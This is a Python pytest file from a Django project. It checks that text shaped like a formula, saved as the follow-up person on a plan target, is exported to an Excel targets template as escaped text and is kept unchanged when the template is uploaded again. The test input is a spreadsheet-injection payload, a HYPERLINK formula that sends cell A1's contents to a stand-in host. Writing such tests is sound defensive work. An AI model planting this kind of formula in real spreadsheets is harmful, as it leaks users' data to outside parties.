"""Text a user typed that looks like a formula comes back in the targets template as text,
and uploading that template again leaves it as it was stored."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tiendo.exchange.services import upload_import
from tiendo.exchange.targets_template import COL, FIRST_ROW, targets_template_build
from tiendo.plans.models import Target
from tiendo.plans.services import target_save

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://x?leak="&A1)'


def test_a_formula_in_the_follow_up_person_comes_back_as_text(world):
    target = world.province_target
    target_save(target_set=target.target_set, indicator=target.indicator,
                org_unit=target.org_unit, period=target.period, comparison=target.comparison,
                value=Decimal(1000), follow_up_person=LEAK, note="-5% so với 2025",
                actor="test")
    data = targets_template_build(target_set=world.target_set, user=None)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    row = next(row for row in range(FIRST_ROW, sheet.max_row + 1)
               if sheet.cell(row=row, column=COL["org_unit"] + 1).value == target.org_unit.code)
    person = sheet.cell(row=row, column=COL["follow_up_person"] + 1)
    assert (person.coordinate, person.data_type, person.value) == (
        f"L{FIRST_ROW}", "s", "'" + LEAK)
    upload_import(stream=io.BytesIO(data), filename="t.xlsx", user=None, actor="test",
                  store=True)
    target = Target.objects.get(pk=target.pk)
    assert (target.follow_up_person, target.note) == (LEAK, "-5% so với 2025")
